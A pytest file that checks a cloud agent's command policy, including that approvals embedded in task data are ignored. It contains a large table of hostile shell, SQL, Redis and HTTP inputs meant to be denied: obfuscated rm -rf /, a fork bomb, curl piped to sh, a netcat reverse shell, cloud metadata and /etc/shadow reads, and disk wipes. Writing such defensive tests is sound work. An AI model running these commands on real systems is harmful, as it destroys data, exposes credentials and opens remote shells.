"""The policy: denial and bypass attempts, read classification, approvals, environment rules.

Every attempt goes through the real agent (so the refusal is audited), but only after the same
policy has been asked on its own: a case the policy would let through fails the test *before*
anything runs, so a regression never executes ``rm -rf /`` on the machine running the tests.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from contract import Approval
from executors import (
    AuditQuery,
    CloudAgent,
    EnvironmentCatalog,
    Policy,
    PolicyConfig,
    RiskClass,
    TaskResult,
    TaskSpec,
    TaskStatus,
    Verdict,
    open_audit_log,
)
from tests.environments import write_environment, write_test_environments

DENIED, APPROVAL = TaskStatus.DENIED, TaskStatus.APPROVAL_REQUIRED
APPROVED = {"approved_by": "test-approver", "reason": "testing that approvals do not lift denials"}

# (type, command or api params, expected status, expected rule for a denial). "{m}" is a marker
# file that the payload would create if it ran.
ATTEMPTS: list[tuple[str, Any, TaskStatus, str | None]] = [
    # -- quoting ------------------------------------------------------------------------------
    ("shell", "rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "r''m -rf /", DENIED, "shell.rm-root"),
    ("shell", '"rm" -rf /', DENIED, "shell.rm-root"),
    ("shell", "r\\m -rf /", DENIED, "shell.rm-root"),
    ("shell", "rm -rf -- //.", DENIED, "shell.rm-root"),
    ("shell", "rm -rf /*", DENIED, "shell.rm-root"),
    ("shell", "t''ouch {m}", APPROVAL, None),
    # -- chaining -----------------------------------------------------------------------------
    ("shell", "echo hi; rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "true && rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "false || rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "echo hi\nrm -rf /", DENIED, "shell.rm-root"),
    ("shell", "(rm -rf /)", DENIED, "shell.rm-root"),
    ("shell", "if true; then rm -rf /; fi", DENIED, "shell.rm-root"),
    ("shell", "df -h && touch {m}", APPROVAL, None),
    # -- substitutions ------------------------------------------------------------------------
    ("shell", "echo $(rm -rf /)", DENIED, "shell.rm-root"),
    ("shell", "echo `rm -rf /`", DENIED, "shell.rm-root"),
    ("shell", 'echo "$(rm -rf /)"', DENIED, "shell.rm-root"),
    ("shell", "cat <(rm -rf /)", DENIED, "shell.rm-root"),
    ("shell", "echo $(touch {m})", APPROVAL, None),
    ("shell", "cat <<EOF\n$(touch {m})\nEOF", DENIED, "shell.dynamic-command"),
    ("shell", "cat <<EOF\n`touch {m}`\nEOF", DENIED, "shell.dynamic-command"),
    ("shell", "printf -v 'a[$(touch {m})]' 1", DENIED, "shell.dynamic-command"),
    ("shell", "test -v 'a[$(touch {m})]'", DENIED, "shell.dynamic-command"),
    ("shell", "read 'a[$(touch {m})]' < /dev/null", DENIED, "shell.dynamic-command"),
    # -- a command name only known at run time -------------------------------------------------
    ("shell", "rm${IFS}-rf${IFS}/", DENIED, "shell.dynamic-command"),
    ("shell", "rm$IFS-rf$IFS/", DENIED, "shell.dynamic-command"),
    ("shell", "$'\\x72m' -rf /", DENIED, "shell.ansi-c-quoting"),
    ("shell", "$'\\x74ouch' {m}", DENIED, "shell.ansi-c-quoting"),
    ("shell", "{rm,-rf,/}", DENIED, "shell.dynamic-command"),
    ("shell", "{touch,{m}}", DENIED, "shell.dynamic-command"),
    ("shell", "/bin/r? -rf /", DENIED, "shell.dynamic-command"),
    ("shell", "/usr/bin/tou* {m}", DENIED, "shell.dynamic-command"),
    ("shell", "a=touch; $a {m}", DENIED, "shell.dynamic-command"),
    ("shell", "IFS=,; x=touch,{m}; $x", DENIED, "shell.dangerous-env"),
    # -- shells and wrappers ------------------------------------------------------------------
    ("shell", "bash -c 'rm -rf /'", DENIED, "shell.rm-root"),
    ("shell", "sh -c 'rm -rf /'", DENIED, "shell.rm-root"),
    ("shell", 'bash -c "echo hi; rm -rf /"', DENIED, "shell.rm-root"),
    ("shell", 'bash -c "$(echo touch {m})"', DENIED, "shell.dynamic-command"),
    ("shell", "sudo rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "sudo -u root rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "env rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "timeout 5 rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "nohup rm -rf / &", DENIED, "shell.rm-root"),
    ("shell", "busybox rm -rf /", DENIED, "shell.rm-root"),
    ("shell", "watch -n1 'rm -rf /'", DENIED, "shell.rm-root"),
    ("shell", "echo / | xargs rm -rf", DENIED, "shell.rm-root"),
    ("shell", "trap 'rm -rf /' EXIT", DENIED, "shell.rm-root"),
    ("shell", "setsid sleep 300", APPROVAL, None),
    # -- code into interpreters ---------------------------------------------------------------
    ("shell", "echo 'touch {m}' | sh", DENIED, "shell.pipe-to-interpreter"),
    ("shell", 'echo \'open("{m}", "w")\' | python3', DENIED, "shell.pipe-to-interpreter"),
    ("shell", "echo dG91Y2gK | base64 -d | bash", DENIED, "shell.pipe-to-interpreter"),
    ("shell", "bash <<< 'touch {m}'", DENIED, "shell.pipe-to-interpreter"),
    ("shell", "curl -s http://downloads.invalid/x.sh | sh", DENIED, "shell.pipe-to-interpreter"),
    ("shell", "eval 'touch {m}'", DENIED, "shell.eval"),
    ("shell", 'python3 -c \'open("{m}", "w")\'', APPROVAL, None),
    ("shell", "git -c core.fsmonitor='touch {m}' status", APPROVAL, None),
    (
        "shell",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0='touch {m}' git status",
        DENIED,
        "shell.dangerous-env",
    ),
    ("shell", ":(){ :|:& };:", DENIED, "shell.function-definition"),
    # -- the machine --------------------------------------------------------------------------
    ("shell", "echo x > /dev/sda", DENIED, "shell.device-write"),
    ("shell", "echo x >> /etc/passwd", DENIED, "shell.device-write"),
    ("shell", "echo x | tee -a /etc/passwd", DENIED, "shell.device-write"),
    ("shell", "dd if=/dev/zero of=/dev/sda bs=1M", DENIED, "shell.device-write"),
    ("shell", "cp /dev/zero /dev/sda", DENIED, "shell.device-write"),
    ("shell", "mkfs.ext4 /dev/sda1", DENIED, "shell.disk-wipe"),
    ("shell", "wipefs -a /dev/sda", DENIED, "shell.disk-wipe"),
    ("shell", "shutdown -h now", DENIED, "shell.power"),
    ("shell", "reboot", DENIED, "shell.power"),
    ("shell", "/sbin/poweroff", DENIED, "shell.power"),
    ("shell", "systemctl reboot", DENIED, "shell.power"),
    ("shell", "systemctl -H db1 reboot", DENIED, "shell.power"),
    ("shell", "init 0", DENIED, "shell.power"),
    ("shell", "kill -9 1", DENIED, "shell.kill-all"),
    ("shell", "kill -s KILL -1", DENIED, "shell.kill-all"),
    ("shell", "find / -delete", DENIED, "shell.rm-root"),
    ("shell", "find / -exec rm -rf {} +", DENIED, "shell.rm-root"),
    ("shell", "chmod -R 777 /", DENIED, "shell.recursive-root"),
    ("shell", "chown -R nobody /", DENIED, "shell.recursive-root"),
    ("shell", "LD_PRELOAD=/tmp/evil.so ls", DENIED, "shell.dangerous-env"),
    ("shell", "export LD_PRELOAD=/tmp/evil.so", DENIED, "shell.dangerous-env"),
    ("shell", "nc -e /bin/sh 10.0.0.1 4444", DENIED, "shell.reverse-shell"),
    # -- cloud metadata and credentials -------------------------------------------------------
    ("shell", "curl http://169.254.169.254/latest/meta-data/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://2852039166/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://0xa9fea9fe/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://0251.0376.0251.0376/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://[::ffff:169.254.169.254]/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl 169.254.169.254", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://evil.invalid@169.254.169.254/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://%31%36%39.254.169.254/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl http://169.254.169.{254}/", DENIED, "http.scheme"),
    ("shell", "curl --resolve example.com:80:169.254.169.254 http://example.com/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl --connect-to ::169.254.169.254: http://example.com/", DENIED, "http.metadata-endpoint"),
    ("shell", "curl -x 169.254.169.254:80 http://example.com/", DENIED, "http.metadata-endpoint"),
    ("shell", "wget -O- http://169.254.169.254/latest/meta-data/", DENIED, "http.metadata-endpoint"),
    ("shell", "cat /etc/shadow", DENIED, "shell.credential-file"),
    ("shell", "cat /etc/shad*", DENIED, "shell.credential-file"),
    ("shell", "cat /etc/[s]hadow", DENIED, "shell.credential-file"),
    ("shell", "cat /etc/sha{d,x}ow", DENIED, "shell.credential-file"),
    ("shell", "cat < /etc/shadow", DENIED, "shell.credential-file"),
    ("shell", "cat ~/.pgpass", DENIED, "shell.credential-file"),
    # -- SQL, Redis through their command-line clients -----------------------------------------
    ("shell", "mysql -e 'DROP DATABASE test'", DENIED, "sql.drop-database"),
    ("shell", "psql -c 'DROP DATABASE test'", DENIED, "sql.drop-database"),
    ("shell", "redis-cli FLUSHALL", DENIED, "redis.flushall"),
    # -- SQL ----------------------------------------------------------------------------------
    ("postgres", "DROP DATABASE test", DENIED, "sql.drop-database"),
    ("postgres", "drop database if exists test", DENIED, "sql.drop-database"),
    ("postgres", "/* hi */ DROP/**/DATABASE test", DENIED, "sql.drop-database"),
    ("postgres", "SELECT 1; DROP TABLE ca_policy_never", APPROVAL, None),
    ("postgres", "SELECT 1 /* ; */; DROP DATABASE test", DENIED, "sql.drop-database"),
    ("postgres", "SELECT 1 -- ;\n; DROP DATABASE test", DENIED, "sql.drop-database"),
    ("postgres", "SET TRANSACTION READ WRITE", APPROVAL, None),
    ("postgres", "SELECT set_config('default_transaction_read_only', 'off', false)", APPROVAL, None),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'touch {m}'", DENIED, "sql.program-exec"),
    ("postgres", "COPY (SELECT 1) TO '{m}'", DENIED, "sql.file-access"),
    ("postgres", "SELECT pg_read_file('/etc/hostname')", DENIED, "sql.file-access"),
    ("postgres", "SELECT \"pg_read_file\"('/etc/hostname')", DENIED, "sql.file-access"),
    ("postgres", "SELECT pg_catalog.pg_read_file('/etc/hostname')", DENIED, "sql.file-access"),
    ("postgres", "SELECT '\\' AS a, pg_read_file('/etc/hostname') AS b --'", DENIED, "sql.ambiguous-lexing"),
    ("postgres", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$", DENIED, "sql.code-load"),
    ("mysql", "DROP DATABASE test", DENIED, "sql.drop-database"),
    ("mysql", "SELECT 1 /*! ; DROP DATABASE test */", DENIED, "sql.executable-comment"),
    ("mysql", "SELECT 1 /*!50000 , LOAD_FILE('/etc/hostname') */", DENIED, "sql.executable-comment"),
    ("mysql", "SELECT 1 INTO OUTFILE '{m}'", DENIED, "sql.file-access"),
    ("mysql", "WITH x AS (SELECT 1) SELECT * FROM x INTO OUTFILE '{m}'", DENIED, "sql.file-access"),
    ("mysql", "LOAD DATA INFILE '/etc/hostname' INTO TABLE t", DENIED, "sql.file-access"),
    ("mysql", "SELECT LOAD_FILE('/etc/hostname')", DENIED, "sql.file-access"),
    ("mysql", "SELECT `load_file`('/etc/hostname')", DENIED, "sql.file-access"),
    ("mysql", "SELECT 1 #'\n, LOAD_FILE('/etc/hostname') -- '", DENIED, "sql.ambiguous-lexing"),
    ("mysql", "SELECT 1 --1, LOAD_FILE('/etc/hostname')", DENIED, "sql.ambiguous-lexing"),
    ("mysql", "SHUTDOWN", DENIED, "sql.shutdown"),
    ("mysql", "OPTIMIZE TABLE problematic_table", APPROVAL, None),
    # -- Redis --------------------------------------------------------------------------------
    ("redis", "FLUSHALL", DENIED, "redis.flushall"),
    ("redis", "flushall", DENIED, "redis.flushall"),
    ("redis", '"FLUSHALL"', DENIED, "redis.flushall"),
    ("redis", "EVAL 'return 1' 0", DENIED, "redis.scripting"),
    ("redis", "CONFIG SET dir /tmp", DENIED, "redis.config-persistence"),
    ("redis", "config set maxmemory 0 DBFILENAME x.rdb", DENIED, "redis.config-persistence"),
    ("redis", "MODULE LOAD /tmp/evil.so", DENIED, "redis.module"),
    ("redis", "SHUTDOWN NOSAVE", DENIED, "redis.shutdown"),
    ("redis", "REPLICAOF 10.0.0.1 6379", DENIED, "redis.replication"),
    ("redis", "ACL SETUSER eve on >pw ~* +@all", DENIED, "redis.acl"),
    ("redis", "FLUSHDB", APPROVAL, None),
    ("redis", "SET ca-policy-never 1", APPROVAL, None),
    # -- HTTP ---------------------------------------------------------------------------------
    ("api", {"url": "http://169.254.169.254/latest/meta-data/"}, DENIED, "http.metadata-endpoint"),
    ("api", {"url": "http://[fd00:ec2::254]/latest/meta-data/"}, DENIED, "http.metadata-endpoint"),
    ("api", {"url": "http://metadata.google.internal/computeMetadata/v1/"}, DENIED, "http.metadata-endpoint"),
    ("api", {"url": "http://2852039166/latest/meta-data/"}, DENIED, "http.metadata-endpoint"),
    ("api", {"url": "file:///etc/passwd"}, DENIED, "http.scheme"),
    ("api", {"method": "POST", "url": "http://127.0.0.1:9/restart"}, APPROVAL, None),
    ("api", {"method": "DELETE", "url": "http://127.0.0.1:9/cache"}, APPROVAL, None),
]
DENIALS = [attempt for attempt in ATTEMPTS if attempt[2] is DENIED]


@pytest.fixture(scope="module")
def table_agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CloudAgent]:
    """One agent for the whole table (the test environments, a fresh audit log)."""
    root = tmp_path_factory.mktemp("policy")
    catalog = EnvironmentCatalog.load(write_test_environments(root / "deployments"))
    with CloudAgent(catalog, open_audit_log(f"sqlite:///{root / 'audit.sqlite3'}")) as running:
        yield running


@pytest.fixture
def marker(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file a payload would create if it ran, in a folder the payload could write to."""
    return tmp_path_factory.getbasetemp() / f"ran-{uuid.uuid4().hex}"


def _task(task_type: str, body: Any, marker: Path, **extra: Any) -> dict[str, Any]:
    if isinstance(body, dict):
        return {"type": task_type, "params": dict(body), "timeout": 5, **extra}
    return {"type": task_type, "command": body.replace("{m}", str(marker)), "timeout": 5, **extra}


def _run_refused(agent: CloudAgent, task: dict[str, Any]) -> tuple[TaskResult, list[str]]:
    """Run ``task`` through the agent, having checked first that its policy refuses it."""
    spec = TaskSpec.parse(task)
    environment = agent.environment_of(spec.agent_id)
    decision = agent.executor(spec.type, environment).policy.decide(spec)
    assert decision.verdict is not Verdict.ALLOW, f"the policy lets this run: {task['command'] or task['params']!r}"
    task_id = f"task-policy-{uuid.uuid4().hex[:12]}"
    # An approval the test gives is the caller's (the engine ignores one inside task data).
    given = Approval.model_validate(task["approval"]) if task.get("approval") else None
    result = agent.run(task, actor="test-policy", task_id=task_id, approval=given)
    events = [record.event.value for record in agent.audit.query(AuditQuery(task_id=task_id))]
    return result, events


def _ids(attempts: list[tuple[str, Any, TaskStatus, str | None]]) -> list[str]:
    return [f"{kind}:{str(body)[:50]}" for kind, body, _, _ in attempts]


def test_the_table_is_large_enough() -> None:
    assert len(ATTEMPTS) >= 40
    assert len(DENIALS) >= 40


@pytest.mark.parametrize(("task_type", "body", "status", "rule"), ATTEMPTS, ids=_ids(ATTEMPTS))
def test_attempt_is_refused_audited_and_never_runs(
    table_agent: CloudAgent, marker: Path, task_type: str, body: Any, status: TaskStatus, rule: str | None
) -> None:
    result, events = _run_refused(table_agent, _task(task_type, body, marker))

    assert result.status is status, result.error
    assert result.error is not None
    if status is DENIED:
        assert result.error.code == "policy_denied"
        assert f"[rule {rule}]" in result.error.message
        assert result.risk is RiskClass.DESTRUCTIVE
        assert events == ["denied"]
    else:
        assert result.error.code == "approval_required"
        assert result.risk in (RiskClass.WRITE, RiskClass.DESTRUCTIVE)
        assert events == ["approval_required"]
    assert result.exit_code is None and result.output is None and result.data is None
    assert not marker.exists()


@pytest.mark.parametrize(("task_type", "body", "status", "rule"), DENIALS, ids=_ids(DENIALS))
def test_an_approval_does_not_lift_a_default_denial(
    table_agent: CloudAgent, marker: Path, task_type: str, body: Any, status: TaskStatus, rule: str | None
) -> None:
    result, events = _run_refused(table_agent, _task(task_type, body, marker, approval=APPROVED))

    assert result.status is TaskStatus.DENIED
    assert result.error is not None and f"[rule {rule}]" in result.error.message
    assert events == ["denied"]
    assert not marker.exists()


def test_an_approved_write_does_run(agent: CloudAgent, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    unapproved = agent.run({"type": "shell", "command": f"t''ouch {marker}"})
    assert unapproved.status is TaskStatus.APPROVAL_REQUIRED and not marker.exists()

    approved = agent.run({"type": "shell", "command": f"t''ouch {marker}"}, approval=Approval(**APPROVED))

    assert approved.status is TaskStatus.SUCCEEDED, approved.error
    assert approved.approved_by == "test-approver"
    assert marker.exists()


# -- read classification ------------------------------------------------------------------------

SPEC_READS = [
    ("shell", "top -bn1 | head -20"),
    ("shell", "df -h && free -m && cat /proc/loadavg"),
    ("shell", "netstat -tuln | grep LISTEN"),
    ("shell", "journalctl -u my-service --since '10 minutes ago' --no-pager"),
    ("shell", "tail -n 1000 /var/log/app/error.log"),
    ("shell", "ping -c 5 database.internal && traceroute database.internal"),
    ("shell", "nslookup api.example.com && dig api.example.com"),
    ("shell", "nc -zv redis.internal 6379 && nc -zv mysql.internal 3306"),
    (
        "shell",
        "grep -E 'ERROR|FATAL' /var/log/app/*.log | awk '{print $1,$2,$NF}' | sort | uniq -c | sort -rn | head -20",
    ),
    ("shell", "curl -s http://localhost:8080/metrics | grep 'db_connections'"),
    ("shell", "curl -s http://localhost:9090/metrics | grep db_connections"),
    ("shell", "curl -s http://localhost:9090/api/v1/query?query=error_rate | jq"),
    ("shell", "curl http://localhost:9090/metrics"),
    ("shell", "grep -r 'datasource' /app/config/"),
    ("shell", "mysql -e 'SELECT * FROM information_schema.processlist WHERE time > 60'"),
    ("shell", "psql -c 'SELECT pid, state FROM pg_stat_activity'"),
    ("shell", "redis-cli INFO stats"),
    ("shell", "ps aux --sort=-%cpu | head -5"),
    ("shell", "du -sh /var/*"),
    ("shell", "ls /var/log/*"),
    ("postgres", "SELECT pid, usename, application_name, state, query FROM pg_stat_activity WHERE state = 'active';"),
    ("postgres", "SELECT trace_id FROM traces WHERE duration > 1000"),
    ("postgres", "SELECT E'it\\'s', 'it''s'"),
    ("mysql", "SHOW PROCESSLIST; SHOW STATUS LIKE 'Threads_connected';"),
    ("mysql", "SELECT * FROM information_schema.processlist WHERE time > 5 ORDER BY time DESC;"),
    ("mysql", "SELECT 1 -- a comment\n, 2 # another"),
    ("redis", "INFO stats"),
    ("redis", "SLOWLOG GET 10"),
    ("redis", "CONFIG GET maxmemory"),
]


@pytest.mark.parametrize(("task_type", "command"), SPEC_READS, ids=[f"{t}:{c[:50]}" for t, c in SPEC_READS])
def test_diagnostic_commands_are_reads(task_type: str, command: str) -> None:
    decision = Policy(PolicyConfig(), "test").decide(TaskSpec(type=task_type, command=command))

    assert decision.verdict is Verdict.ALLOW, decision.reason
    assert decision.risk is RiskClass.READ, decision.reason


# -- environment rules ----------------------------------------------------------------------------


@pytest.fixture
def agent_with(config_dir: Path, state_dir: Path) -> Iterator[Callable[..., CloudAgent]]:
    """Write an environment ``custom`` (agent ``agent-custom-001``) and return an agent for it."""
    agents: list[CloudAgent] = []

    def make(**environment: Any) -> CloudAgent:
        write_environment(config_dir, "custom", agents=["agent-custom-001"], **environment)
        running = CloudAgent(
            EnvironmentCatalog.load(config_dir), open_audit_log(f"sqlite:///{state_dir / 'custom.sqlite3'}")
        )
        agents.append(running)
        return running

    yield make
    for running in agents:
        running.close()


def test_environment_deny_patterns_see_through_quoting_and_chaining(agent_with: Callable[..., CloudAgent]) -> None:
    agent = agent_with(policy={"deny": [{"pattern": r"^journalctl\b", "reason": "no journal reading here"}]})

    for command in (
        "journalctl -u my-service --no-pager",
        '"journal"ctl -u my-service',
        "df -h && j\\ournalctl -n 5",
        "echo $(journalctl -n 1)",
    ):
        result, events = _run_refused(agent, {"agent_id": "agent-custom-001", "type": "shell", "command": command})
        assert result.status is TaskStatus.DENIED, command
        assert result.error is not None and "no journal reading here" in result.error.message
        assert "[rule environment.deny]" in result.error.message
        assert events == ["denied"]

    allowed = agent.run({"agent_id": "agent-custom-001", "type": "shell", "command": "echo journalctl"})
    assert allowed.status is TaskStatus.SUCCEEDED


def test_environment_deny_patterns_can_target_one_type(agent_with: Callable[..., CloudAgent]) -> None:
    agent = agent_with(policy={"deny": [{"pattern": "pg_stat_activity", "types": ["postgres"]}]})
    task = {"agent_id": "agent-custom-001", "command": "SELECT count(*) FROM pg_stat_activity"}

    postgres, _ = _run_refused(agent, {**task, "type": "postgres"})
    shell = agent.run({**task, "type": "shell", "command": "echo pg_stat_activity"})

    assert postgres.status is TaskStatus.DENIED
    assert shell.status is TaskStatus.SUCCEEDED


def test_environment_can_lift_a_default_rule(agent_with: Callable[..., CloudAgent], tmp_path: Path) -> None:
    shadow = tmp_path / "shadow"
    shadow.write_text("root:not-really-a-hash:19000:0:99999:7:::\n")
    task = {"agent_id": "agent-custom-001", "type": "shell", "command": f"cat {shadow}"}

    strict = agent_with()
    refused, _ = _run_refused(strict, {**task, "approval": APPROVED})
    assert refused.status is TaskStatus.DENIED
    assert refused.error is not None and "[rule shell.credential-file]" in refused.error.message

    # Lifted, the rule no longer denies: the task is what the rule judged it, destructive, and
    # runs with an approval (so a lift never turns a denied task into an unattended one).
    lifted = agent_with(policy={"lift": ["shell.credential-file"]})
    unapproved, events = _run_refused(lifted, task)
    assert unapproved.status is TaskStatus.APPROVAL_REQUIRED
    assert unapproved.error is not None and "holds credentials" in unapproved.error.message
    assert events == ["approval_required"]

    result = lifted.run(task, approval=Approval(**APPROVED))
    assert result.status is TaskStatus.SUCCEEDED, result.error
    assert result.output == "root:not-really-a-hash:19000:0:99999:7:::\n"


def test_lifting_one_rule_leaves_the_others(agent_with: Callable[..., CloudAgent], tmp_path: Path) -> None:
    agent = agent_with(policy={"lift": ["shell.credential-file"]})

    result, events = _run_refused(agent, {"agent_id": "agent-custom-001", "type": "shell", "command": "rm -rf /"})

    assert result.status is TaskStatus.DENIED
    assert events == ["denied"]


def test_max_risk_refuses_even_approved_tasks_above_it(agent: CloudAgent, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    task = {"type": "shell", "command": f"rm -r {victim}", "approval": APPROVED}

    # prod allows at most ``write``: an approved destructive task is still refused there
    in_prod, events = _run_refused(agent, {**task, "agent_id": "agent-prod-001"})
    assert in_prod.status is TaskStatus.DENIED
    assert in_prod.error is not None and "[rule environment.max-risk]" in in_prod.error.message
    assert events == ["denied"]
    assert victim.exists()

    # an approved write is still fine in prod
    touched = tmp_path / "touched"
    write = agent.run(
        {"agent_id": "agent-prod-001", "type": "shell", "command": f"touch {touched}"}, approval=Approval(**APPROVED)
    )
    assert write.status is TaskStatus.SUCCEEDED and touched.exists()

    # local has no such cap
    in_local = agent.run({**task, "agent_id": "agent-local-001"}, approval=Approval(**APPROVED))
    assert in_local.status is TaskStatus.SUCCEEDED, in_local.error
    assert not victim.exists()


def test_max_risk_read_refuses_every_write(agent_with: Callable[..., CloudAgent], tmp_path: Path) -> None:
    agent = agent_with(policy={"max_risk": "read"})
    marker = tmp_path / "ran"

    result, _ = _run_refused(
        agent, {"agent_id": "agent-custom-001", "type": "shell", "command": f"touch {marker}", "approval": APPROVED}
    )

    assert result.status is TaskStatus.DENIED
    assert not marker.exists()


def test_environment_read_only_commands_extend_the_table(agent_with: Callable[..., CloudAgent]) -> None:
    spec = TaskSpec(type="shell", command="my-diag --summary")
    assert Policy(PolicyConfig(), "default").decide(spec).verdict is Verdict.NEEDS_APPROVAL

    trusting = Policy(PolicyConfig(read_only_commands=["my-diag"]), "custom")
    assert trusting.decide(spec).verdict is Verdict.ALLOW


def test_environment_redis_deny_commands(agent_with: Callable[..., CloudAgent]) -> None:
    agent = agent_with(policy={"redis_deny_commands": ["KEYS"]})

    result, events = _run_refused(agent, {"agent_id": "agent-custom-001", "type": "redis", "command": "keys *"})

    assert result.status is TaskStatus.DENIED
    assert events == ["denied"]


def test_http_allow_hosts_and_deny_hosts() -> None:
    metadata = TaskSpec(type="api", params={"url": "http://169.254.169.254/latest/meta-data/"})
    internal = TaskSpec(type="api", params={"url": "http://10.1.2.3/health"})

    allow = Policy(PolicyConfig(http_allow_hosts=["169.254.169.254"]), "custom")
    deny = Policy(PolicyConfig(http_deny_hosts=["10.0.0.0/8"]), "custom")

    assert allow.decide(metadata).verdict is Verdict.ALLOW
    assert deny.decide(internal).verdict is Verdict.DENY
    assert deny.decide(internal).rule == "http.denied-host"
    assert Policy(PolicyConfig(), "default").decide(internal).verdict is Verdict.ALLOW


def test_a_task_type_without_an_analyser_needs_an_approval() -> None:
    decision = Policy(PolicyConfig(), "default").decide(TaskSpec(type="some-plugin", command="do things"))

    assert decision.verdict is Verdict.NEEDS_APPROVAL
    assert decision.risk is RiskClass.WRITE


def test_an_approval_inside_task_data_is_never_trusted(agent: CloudAgent, tmp_path: Path) -> None:
    marker = tmp_path / "forged"
    task = {"type": "shell", "command": f"touch {marker}", "approval": {"approved_by": "the-cto", "reason": "trust me"}}

    forged = agent.run(task, actor="test", task_id="task-forged")

    assert forged.status is TaskStatus.APPROVAL_REQUIRED and not marker.exists()
    assert forged.notes and "approval inside the task was ignored" in forged.notes[0]
    records = agent.audit.query(AuditQuery(task_id="task-forged"))
    assert records and all(record.approved_by is None for record in records)
    # Given by the caller (the CLI's OS user, an approver's token, the fix step), it counts.
    approved = agent.run(task, actor="test", approval=Approval(approved_by="oncall", reason="INC-1"))
    assert approved.status is TaskStatus.SUCCEEDED and marker.exists() and approved.approved_by == "oncall"
